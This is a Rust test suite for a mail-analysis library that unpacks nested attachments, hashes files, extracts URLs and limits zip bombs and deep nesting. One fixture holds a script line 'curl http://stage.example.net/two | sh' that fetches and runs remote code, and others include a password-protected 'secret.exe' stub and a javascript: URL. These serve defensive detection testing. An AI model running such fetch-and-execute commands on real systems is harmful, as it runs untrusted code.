//! Message analysis: what it finds and what it refuses.

mod mails;

use hinomi_mail::parse::{Limits, Location, Reason, analyse, normalise_url};
use mails::{base64_lines, mail_with, reason, sha256, zip_of};
use std::io::Write;
use std::time::{Duration, Instant};

#[test]
fn nested_files_have_their_own_hash_and_parent() {
    let script = b"#!/bin/sh\ncurl http://stage.example.net/two | sh\n";
    let inner = zip_of(&[("run/invoice.sh", script)]);
    let outer = zip_of(&[("inner.zip", &inner), ("readme.txt", b"hello")]);
    let found = analyse(&mail_with("invoice.zip", "application/zip", &outer), &Limits::default());
    assert_eq!(found.subject, "請求書");
    assert_eq!((found.from_address.as_str(), found.from_domain()), ("boss@example.com", "example.com"));
    assert_eq!(found.message_id, "m1@example.com");
    let rows: Vec<(&str, &str, Option<&str>)> = found
        .files
        .iter()
        .map(|file| (file.path.as_str(), file.attachment.sha256.as_str(), file.attachment.parent_sha256.as_deref()))
        .collect();
    let (outer_hash, inner_hash, script_hash) = (sha256(&outer), sha256(&inner), sha256(script));
    assert_eq!(
        rows,
        [
            ("invoice.zip", outer_hash.as_str(), None),
            ("invoice.zip/inner.zip", inner_hash.as_str(), Some(outer_hash.as_str())),
            ("invoice.zip/inner.zip/run/invoice.sh", script_hash.as_str(), Some(inner_hash.as_str())),
            ("invoice.zip/readme.txt", sha256(b"hello").as_str(), Some(outer_hash.as_str())),
        ]
    );
    let urls: Vec<(&str, Location)> = found.urls.iter().map(|url| (url.url.as_str(), url.location)).collect();
    assert_eq!(
        urls,
        [
            ("http://example.com/Path", Location::Body),
            ("http://www.example.org/y", Location::Body),
            ("http://stage.example.net/two", Location::Attachment),
        ]
    );
    assert!(found.files.iter().all(|file| file.attachment.uninspected.is_none()), "{:?}", found.notes);
    assert_eq!(found.attachment_hashes(), [outer_hash]);
}

#[test]
fn text_attachments_hash_as_the_saved_file() {
    let script = "#!/bin/sh\necho 請求書\n".as_bytes();
    for kind in ["text/x-sh", "application/octet-stream", "text/plain; charset=iso-2022-jp"] {
        let found = analyse(&mail_with("a.sh", kind, script), &Limits::default());
        assert_eq!(found.files[0].attachment.sha256, sha256(script), "{kind}");
    }
    let plain = "From: a@b.c\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nhi\r\n--b\r\n\
                 Content-Disposition: attachment; filename=x.txt\r\n\r\none\r\ntwo\r\n--b--\r\n";
    let found = analyse(plain.as_bytes(), &Limits::default());
    assert_eq!(found.files[0].attachment.sha256, sha256(b"one\r\ntwo"));
    let quoted = plain.replace("x.txt\r\n", "x.txt\r\nContent-Transfer-Encoding: quoted-printable\r\n");
    let found = analyse(quoted.as_bytes(), &Limits::default());
    assert_eq!(found.files[0].attachment.sha256, sha256(b"one\r\ntwo"));
}

#[test]
fn attached_messages_are_opened() {
    let inner = mail_with("deep.bin", "application/octet-stream", b"\x00payload");
    for encoding in ["7bit", "base64"] {
        let body =
            if encoding == "base64" { base64_lines(&inner) } else { String::from_utf8(inner.clone()).expect("text") };
        let outer = format!(
            "From: x@y.z\r\nContent-Type: multipart/mixed; boundary=out\r\n\r\n--out\r\n\r\nhello\r\n--out\r\n\
             Content-Type: message/rfc822\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}\r\n--out--\r\n"
        );
        let found = analyse(outer.as_bytes(), &Limits::default());
        let names: Vec<&str> = found.files.iter().map(|file| file.path.as_str()).collect();
        assert_eq!(names, ["part-2.eml", "part-2.eml/deep.bin"], "{encoding}");
        assert_eq!(found.files[1].attachment.sha256, sha256(b"\x00payload"));
        assert_eq!(found.files[0].attachment.sha256, sha256(&inner), "{encoding}");
    }
}

#[test]
fn bombs_and_damage_cost_only_their_own_verdict() {
    let zeros = vec![0_u8; 40 << 20];
    let bomb = zip_of(&[("zeros", &zeros), ("fine.txt", b"fine")]);
    let started = Instant::now();
    let found = analyse(&mail_with("bomb.zip", "application/zip", &bomb), &Limits::default());
    assert!(started.elapsed() < Duration::from_secs(20));
    let why = found.files[0].attachment.uninspected.clone().expect("a reason");
    assert_eq!(why.text.en, "1 of 2 files not read: compressed more than 200 to 1");
    assert_eq!(why.text.ja, "2個中1個のファイルを読み取れませんでした：圧縮率が200対1を超えています");
    assert_eq!(why.code, "limit_ratio");
    assert_eq!(found.files[1].path, "bomb.zip/fine.txt");

    let mut matryoshka = zip_of(&[("core.txt", b"core")]);
    for level in 0..20 {
        matryoshka = zip_of(&[(&format!("{level}.zip"), &matryoshka)]);
    }
    let found = analyse(&mail_with("deep.zip", "application/zip", &matryoshka), &Limits::default());
    assert_eq!(reason(found.files.last().expect("files")), "more than 6 levels deep");

    let many: Vec<(String, Vec<u8>)> = (0..700).map(|n| (format!("{n}.txt"), vec![1])).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())).collect();
    let found = analyse(&mail_with("many.zip", "application/zip", &zip_of(&many)), &Limits::default());
    assert_eq!(found.files.len(), 500);
    assert!(found.notes.iter().any(|note| note.subject == "files"), "{:?}", found.notes);

    let mut broken = zip_of(&[("a.txt", b"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")]);
    broken[40..].iter_mut().take(8).for_each(|byte| *byte ^= 0x55);
    let found = analyse(&mail_with("broken.zip", "application/zip", &broken), &Limits::default());
    assert!(found.files[0].attachment.uninspected.is_some());
}

#[test]
fn encrypted_files_say_so() {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().with_aes_encryption(zip::AesMode::Aes256, "infected");
    writer.start_file("secret.exe", options).expect("start");
    writer.write_all(b"MZ").expect("write");
    let bytes = writer.finish().expect("finish").into_inner();
    let found = analyse(&mail_with("s.zip", "application/zip", &bytes), &Limits::default());
    assert_eq!(reason(&found.files[0]), "encrypted");
}

#[test]
fn thousands_of_nested_messages_do_not_overflow() {
    let mut raw = b"From: a@b.c\r\nSubject: nest\r\n".to_vec();
    for _ in 0..200_000 {
        raw.extend_from_slice(b"Content-Type: message/rfc822\r\n\r\n");
    }
    let found = analyse(&raw, &Limits::default());
    assert_eq!(found.subject, "nest");
    assert!(!found.notes.is_empty());
}

#[test]
fn the_body_hash_survives_rewrapping_and_reencoding() {
    let one = "From: a@b.c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhello  wörld and\r\nmore\r\n";
    let two = "Received: by x\r\nFrom: a@b.c\r\nContent-Type: text/plain; charset=utf-8\r\n\
               Content-Transfer-Encoding: quoted-printable\r\n\r\nhello w=C3=B6rld=\r\n and more";
    let three = one.replace("more", "other");
    let hash = |raw: &str| analyse(raw.as_bytes(), &Limits::default()).body_sha256;
    assert_eq!(hash(one), hash(two));
    assert_ne!(hash(one), hash(&three));
}

#[test]
fn urls_come_from_markup_too() {
    let html = "From: a@b.c\r\nContent-Type: text/html\r\n\r\n<html><!-- http://comment.example/ --><a href='http&#58;//a.example/?x=1&amp;y=2'>t</a>\
                <IMG SRC=//img.example/p.png><meta http-equiv=refresh content=\"0; url=https://r.example\">\
                <script>location='http://s.example/z'</script> http://t.example/q <a href=\"mailto:x@y.z\">m</a>";
    let found = analyse(html.as_bytes(), &Limits::default());
    let urls: Vec<&str> = found.urls.iter().map(|url| url.url.as_str()).collect();
    assert_eq!(
        urls,
        [
            "http://a.example/?x=1&y=2",
            "https://img.example/p.png",
            "https://r.example/",
            "http://s.example/z",
            "http://t.example/q"
        ]
    );
    assert_eq!(normalise_url("javascript:alert(1)"), None);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 200, ..Default::default() })]
    #[test]
    fn no_input_panics(head in "(Content-Type: (multipart/mixed; boundary=x|message/rfc822|text/html)\r\n){0,3}", body in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..600)) {
        let raw = [head.as_bytes(), b"\r\n", &body].concat();
        let found = analyse(&raw, &Limits::default());
        proptest::prop_assert!(found.notes.iter().all(|note| note.reason != Reason::ReaderFailed));
    }
}
